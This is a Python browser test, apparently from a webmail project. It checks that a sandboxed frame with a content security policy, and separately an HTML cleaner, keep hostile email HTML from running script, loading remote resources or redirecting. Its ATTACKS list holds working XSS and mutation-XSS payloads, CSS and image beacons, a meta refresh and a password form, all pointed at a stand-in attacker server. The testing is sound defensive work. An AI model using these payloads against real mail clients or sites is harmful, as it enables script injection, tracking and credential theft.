"""Hostile HTML in a real browser, behind one wall at a time: nothing runs, loads, asks or leads away."""

from __future__ import annotations

import os
from base64 import b64encode
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from aiohttp import web
from playwright.async_api import Browser, async_playwright

from tests.web.screenshots import ARGUMENTS, CHROMIUM
from web.headers import framed_mail_policy
from web.mails.cleaning import clean_mail

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(180),
    pytest.mark.skipif(not os.path.exists(CHROMIUM), reason=f"Chromium is missing ({CHROMIUM})"),
    # the browser's driver leaves its transports to the collector when a loop ends
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]

_SVG = b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.ran(1)"/>').decode()
#: E stands for a server of the attacker's
ATTACKS = (
    # words that one parser reads as text and the other as elements
    '<noscript><p title="</noscript><img src=x onerror=top.ran(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=top.ran(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran(1)>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=top.ran(1)>">',
    "<svg><desc><![CDATA[</desc><script>top.ran(1)</script>]]></svg>",
    '<xmp><p title="</xmp><img src=x onerror=top.ran(1)>"><plaintext><img src=x onerror=top.ran(1)>',
    "<!--[if gte mso 9]><img src=E/1><![endif]--><!--><img src=E/2>--><!--x--!><img src=E/3>",
    # scripts
    "<script>top.ran(1)</script><script src=E/s.js></script><body onload=top.ran(1)>",
    "<p onclick=top.ran(1) autofocus onfocus=top.ran(1) tabindex=0>x</p><details open ontoggle=top.ran(1)>d</details>",
    f'<img src="data:image/svg+xml;base64,{_SVG}"><embed src="data:image/svg+xml;base64,{_SVG}">',
    '<iframe srcdoc="<script>top.ran(1)</script>"></iframe><iframe src="javascript:top.ran(1)"></iframe>',
    # pictures and other things that load
    '<img src=E/1><img srcset="E/2 1x, E/3 2x"><picture><source srcset=E/4><img src=E/5></picture><img lowsrc=E/6>',
    "<video poster=E/1 src=E/2 autoplay></video><audio src=E/3 autoplay></audio><input type=image src=E/4>",
    "<body background=E/1><table background=E/2><tr><td background=E/3>x</table>",
    "<iframe src=E/1></iframe><object data=E/2></object><embed src=E/3><frameset><frame src=E/4></frameset>",
    # styles
    '<style>@import "E/1"; body{background:url(E/2)} @font-face{font-family:x;src:url(E/3)} p{font-family:x}</style>x',
    '<p style="background:url(E/1)">a<p style="back\\67round:ur\\6c(E/2)">b<p style="list-style:url(E/3)">c',
    '<p style="cursor:url(E/1),auto">a<p style="background:image-set(\'E/2\' 1x)">b<p style="border-image:url(E/3) 3">c',
    '<p style="font-family:&quot;;background:url(E/1);&quot;">a<p style="color:red;/*;*/background:url(E/2)">b',
    '<p style="--x:url(E/1);background:var(--x)">a<p style="filter:url(E/2)">b<p style="-webkit-mask:url(E/3)">c',
    # what a browser does ahead of being asked, or instead
    "<link rel=stylesheet href=E/1><link rel=prefetch href=E/2><link rel=preload as=image href=E/3><link rel=icon href=E/4>",
    "<meta http-equiv=refresh content='0;url=E/1'><base href=E/><img src=relative.png>",
    "<meta http-equiv=Content-Security-Policy content='img-src *'><img src=E/1>",
    "<form action=E/1 method=post target=_top><input name=password autofocus><button formaction=E/2>Go</button></form>",
    '<img title="x src="E/1"><img src=\'E/2?',
)  # fmt: skip


@dataclass
class Attacker:
    """A server that notes what it is asked, and ours that shows a mail in its frame."""

    url: str
    ours: str
    pages: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    sealed: bool = True


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    """Both servers."""
    found = Attacker("", "")

    async def note(request: web.Request) -> web.Response:
        found.asked.append(request.path_qs)
        return web.Response(text="x", headers={"Access-Control-Allow-Origin": "*"})

    async def show(request: web.Request) -> web.Response:
        if request.path == "/mail":
            policy = {
                "Content-Security-Policy": framed_mail_policy("data:"),
                "Referrer-Policy": "no-referrer",
            }
            headers = policy if found.sealed else {}
            return web.Response(text=found.pages["mail"], content_type="text/html", headers=headers)
        sandbox = 'sandbox="allow-popups allow-popups-to-escape-sandbox"' if found.sealed else ""
        page = f"<script>window.count=0;function ran(){{window.count++}}</script><iframe {sandbox} src=/mail></iframe>"
        return web.Response(text=page if request.path == "/" else "", content_type="text/html")

    runners = []
    for handler in (note, show):
        app = web.Application()
        app.router.add_route("*", "/{rest:.*}", handler)
        runner = web.AppRunner(app)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        runners.append(runner)
    found.url, found.ours = (f"http://127.0.0.1:{runner.addresses[0][1]}" for runner in runners)
    yield found
    for runner in runners:
        await runner.cleanup()


async def _look(browser: Browser, attacker: Attacker, page_text: str) -> None:
    attacker.pages["mail"] = page_text
    attacker.asked.clear()
    page = await browser.new_page()
    popups: list[object] = []
    page.on("popup", lambda popup: popups.append(popup))
    await page.goto(attacker.ours + "/")
    await page.wait_for_timeout(150)
    assert await page.evaluate("window.count") == 0, page_text
    assert page.url == attacker.ours + "/", page_text
    assert attacker.asked == [], page_text
    assert popups == [], page_text
    await page.close()


async def test_either_wall_alone_keeps_hostile_html_from_doing_anything(attacker: Attacker) -> None:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        for attack in ATTACKS:
            source = attack.replace("E/", attacker.url + "/")
            attacker.sealed = True  # the frame and its policy
            await _look(browser, attacker, "<!doctype html>" + source)
            attacker.sealed = False  # the cleaner
            await _look(browser, attacker, clean_mail(source, {}).html)
        await browser.close()
